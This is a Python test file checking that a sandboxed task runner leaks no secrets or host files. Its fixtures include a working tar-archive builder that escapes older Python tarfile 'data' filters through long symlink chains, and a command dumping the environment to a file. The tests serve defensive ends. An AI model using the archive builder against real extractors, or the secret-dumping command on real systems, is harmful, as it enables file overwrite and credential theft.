"""What passes between the host and a sandbox: hostile tasks (tests/fixtures/runs/.../hostile) run through the run
form, by a real worker, in real bubblewrap, and none of what they try reaches the host or the store.

- env templates naming every secret the app knows get none of them, with the oracle and with terminus-2 (the
  visitor's model key included), as they are, reversed or in base64;
- a verifier that replaces the sandbox's `tar` with one printing a symbolic-link-chain archive (which this
  machine's Python 3.12.1 tarfile `data` filter lets out), plants links to the host's files, a FIFO and a 2 GB
  sparse file: nothing is written outside the run's folder, no host file is copied in, the 2 GB stay behind;
- a task filling every writable place writes no more than its storage_mb, in all.
"""

from __future__ import annotations

import base64
import io
import os
import shutil
import tarfile
from pathlib import Path

import pytest

from tests.runs_fixtures import probes_app, probes_folder, start_worker  # noqa: F401
from tests.runs_helpers import wait_for
from tests.stand_ins.model import ModelStandIn, action
from tests.runs.test_run_pages import post_run, run_id_of

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap (`bwrap`) is not installed")
HOSTILE = "rlx-tests/hostile"
MODEL_KEY = "sk-visitor-PASSAGE-key-0123456789abcdef"
# What the worker holds (REDIS_URL is added: the worker's own, real one).
WORKER_SECRETS = {
    "SESSION_SECRET": "session-PASSAGE-secret-0123456789abcdef",
    "HF_TOKEN": "hf_PASSAGEtoken0123456789abcdefghij",
    "HUGGING_FACE_HUB_TOKEN": "hf_PASSAGEhubtoken0123456789abcdefgh",
    "OAUTH_CLIENT_SECRET": "oauth-PASSAGE-client-secret-0123456789",
    "METRICS_TOKEN": "metrics-PASSAGE-token-0123456789abcdef",
    "OPENAI_API_KEY": "sk-operator-PASSAGE-0123456789abcdef",
}


def hostile_path(folder: Path, name: str) -> Path:
    return folder / "datasets" / HOSTILE / "tasks" / name


@pytest.fixture
def hostile_app(probes_app):
    from tests.conftest import index_now

    probes_app.config["RLX_ALLOW_LOOPBACK_MODELS"] = True
    probes_app.index_hostile = lambda: index_now(probes_app, HOSTILE)
    return probes_app


@pytest.fixture
def secret_worker(hostile_app, redis_client):
    """A worker holding every secret the app knows, as a deployment's would."""
    process = start_worker(hostile_app, redis_client, {**WORKER_SECRETS, "RLX_ALLOW_LOOPBACK_MODELS": "1"})
    yield process
    process.terminate()
    process.wait(15)


def forms_of(secret: str) -> list[bytes]:
    return [form.encode() for form in (secret, secret[::-1], base64.b64encode(secret.encode()).decode())]


def leaks_of(app, client, run_id: str, secrets: list[str]) -> list[str]:
    """Where any secret (as it is, reversed or in base64) shows: the run page, its JSON, any file of the run."""
    places = {f"/r/{run_id}": client.get(f"/r/{run_id}").get_data(),
              f"/api/runs/{run_id}": client.get(f"/api/runs/{run_id}").get_data()}
    run_dir = app.config["RLX"].storage_dir / "runs" / run_id
    places.update({str(p): p.read_bytes() for p in run_dir.rglob("*") if p.is_file() and not p.is_symlink()})
    return [f"{where}: {secret[:12]}..." for where, data in places.items() for secret in secrets
            if any(form in data for form in forms_of(secret))]


def test_env_templates_naming_every_secret_get_none_of_them_with_the_oracle(hostile_app, redis_client,
                                                                            secret_worker):
    hostile_app.index_hostile()
    client = hostile_app.test_client()
    run_id = run_id_of(post_run(client, path=f"/t/{HOSTILE}/env-secrets"))
    run = wait_for(hostile_app, run_id)
    assert run.status == "finished" and run.rewards == {"reward": 1.0}, run.outcome
    secrets = [*WORKER_SECRETS.values(), hostile_app.config["RLX"].redis_url]
    assert leaks_of(hostile_app, client, run_id, secrets) == []
    printed = (hostile_app.config["RLX"].storage_dir / "runs" / run_id / "trial" / "verifier"
               / "printed.txt").read_text()
    # The task's defaults, nothing else (reversed: Harbor scrubs "none" itself from secret-looking names)
    assert "L_SESSION_SECRET reversed=enon" in printed and "L_REDIS_URL reversed=enon" in printed
    assert f"L_RLX_RUN_ID={run_id}" in printed  # a variable the site gives tasks is given


def test_env_templates_get_nothing_with_terminus_2_and_the_visitors_key(hostile_app, redis_client, secret_worker):
    hostile_app.index_hostile()
    model = ModelStandIn([action("env | tee /app/seen.txt\n"), action("", done=True)], key=MODEL_KEY).start()
    try:
        client = hostile_app.test_client()
        run_id = run_id_of(post_run(client, path=f"/t/{HOSTILE}/env-secrets", agent="terminus-2",
                                    model=model.model, endpoint=model.url, api_key=MODEL_KEY))
        run = wait_for(hostile_app, run_id, timeout=180)
    finally:
        model.stop()
    assert run.status == "finished" and run.rewards == {"reward": 1.0}, run.outcome
    assert model.requests and all(r["authorization"] == f"Bearer {MODEL_KEY}" for r in model.requests)
    secrets = [MODEL_KEY, *WORKER_SECRETS.values(), hostile_app.config["RLX"].redis_url]
    assert leaks_of(hostile_app, client, run_id, secrets) == []
    printed = (hostile_app.config["RLX"].storage_dir / "runs" / run_id / "trial" / "verifier"
               / "printed.txt").read_text()
    assert "L_OPENAI_API_KEY reversed=enon" in printed


def test_a_template_with_no_default_for_a_name_we_do_not_give_fails_the_run_with_a_sentence(hostile_app,
                                                                                          secret_worker):
    hostile_app.index_hostile()
    client = hostile_app.test_client()
    run_id = run_id_of(post_run(client, path=f"/t/{HOSTILE}/env-required"))
    run = wait_for(hostile_app, run_id)
    assert run.status == "failed"
    assert "asks for ${SESSION_SECRET} in [verifier.env] STOLEN, which this site does not give tasks" in run.outcome
    assert leaks_of(hostile_app, client, run_id, list(WORKER_SECRETS.values())) == []


def chain_archive(target_dir: Path) -> bytes:
    """A tar whose last member lands in `target_dir` on Python < 3.12.11, past the `data` filter: a link through a
    path longer than PATH_MAX, where os.path.realpath gives up resolving and the filter reads it lexically."""
    long_name, hops = "d" * 247, "abcdefghijklmnop"
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        def add(name: str, kind: bytes, link: str = "", data: bytes | None = None):
            info = tarfile.TarInfo(name)
            info.type, info.linkname, info.mode = kind, link, 0o755
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)

        prefix = ""
        for hop in hops:
            add(os.path.join(prefix, long_name), tarfile.DIRTYPE)
            add(os.path.join(prefix, hop), tarfile.SYMTYPE, long_name)
            prefix = os.path.join(prefix, long_name)
        deep = os.path.join(*hops, "l" * 254)
        add(deep, tarfile.SYMTYPE, "../" * len(hops))
        add("exit", tarfile.SYMTYPE, deep + "/" + "../" * (len(hops) + 1) + str(target_dir).lstrip("/"))
        add("exit/pwned.txt", tarfile.REGTYPE, data=b"written outside the store\n")
    return buffer.getvalue()


def test_the_chain_archive_does_escape_this_pythons_tarfile_filter(tmp_path):
    """The attack below is real on this interpreter: the same archive, unpacked with Harbor's helper (the data
    filter), writes outside its destination. (On Python >= 3.12.11 it is refused, and this test says so.)"""
    from harbor.environments.tar_transfer import extract_dir_from_bytes

    outside, into = tmp_path / "outside", tmp_path / "into"
    outside.mkdir()
    extract_dir_from_bytes(chain_archive(outside), into)
    import sys

    if sys.version_info >= (3, 12, 11):
        assert not (outside / "pwned.txt").exists()
    else:
        assert (outside / "pwned.txt").exists()


def test_a_verifier_that_fakes_tar_and_plants_links_writes_nothing_outside_the_store(hostile_app, probes_folder,
                                                                                   secret_worker, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    host_secret = tmp_path / "host" / "host-secret.txt"
    host_secret.parent.mkdir()
    host_secret.write_text("HOST-FILE-PASSAGE-0123456789\n")
    task = hostile_path(probes_folder, "fake-tar")
    (task / "tests" / "host-paths.txt").write_text(f"{host_secret} {outside}\n")
    (task / "tests" / "chain.tar").write_bytes(chain_archive(outside))
    storage = hostile_app.config["RLX"].storage_dir
    settings_before = (storage / "settings.json").read_bytes() if (storage / "settings.json").exists() else None
    hostile_app.index_hostile()
    client = hostile_app.test_client()
    run_id = run_id_of(post_run(client, path=f"/t/{HOSTILE}/fake-tar"))
    run = wait_for(hostile_app, run_id, timeout=180)
    assert list(outside.iterdir()) == []  # the chain archive wrote nothing (it was never unpacked)
    assert ((storage / "settings.json").read_bytes() if (storage / "settings.json").exists() else None) \
        == settings_before
    assert run.status == "finished" and run.rewards == {"reward": 1.0}, run.outcome
    verifier = storage / "runs" / run_id / "trial" / "verifier"
    # The attack was tried; the sandbox's walls (tests/runs/test_sandbox_walls.py) now refuse the mount itself, and
    # nothing below depends on whether it worked: the worker runs no program of the sandbox's.
    assert "replaced" in (verifier / "test-stdout.txt").read_text()
    copied = {p.name for p in verifier.rglob("*")}
    assert not copied & {"stolen.txt", "stolen-again.txt", "host-folder", "hang-here", "zeros.bin", "zeros-2.bin"}
    assert leaks_of(hostile_app, client, run_id, ["HOST-FILE-PASSAGE-0123456789"]) == []
    run_bytes = sum(p.stat().st_size for p in (storage / "runs" / run_id).rglob("*") if p.is_file())
    assert run_bytes < 64 * 1024 * 1024  # the 2 GB of zeros stayed in the sandbox


def test_a_task_filling_every_writable_place_writes_no_more_than_its_storage(hostile_app, secret_worker):
    hostile_app.index_hostile()
    client = hostile_app.test_client()
    run_id = run_id_of(post_run(client, path=f"/t/{HOSTILE}/filler"))
    run = wait_for(hostile_app, run_id, timeout=180)
    assert run.status == "finished" and run.rewards == {"reward": 1.0}, run.outcome
    written = int((hostile_app.config["RLX"].storage_dir / "runs" / run_id / "trial" / "verifier"
                   / "written.txt").read_text())
    assert 32 * 1024 * 1024 < written <= 64 * 1024 * 1024  # it wrote a lot, and not past storage_mb = 64
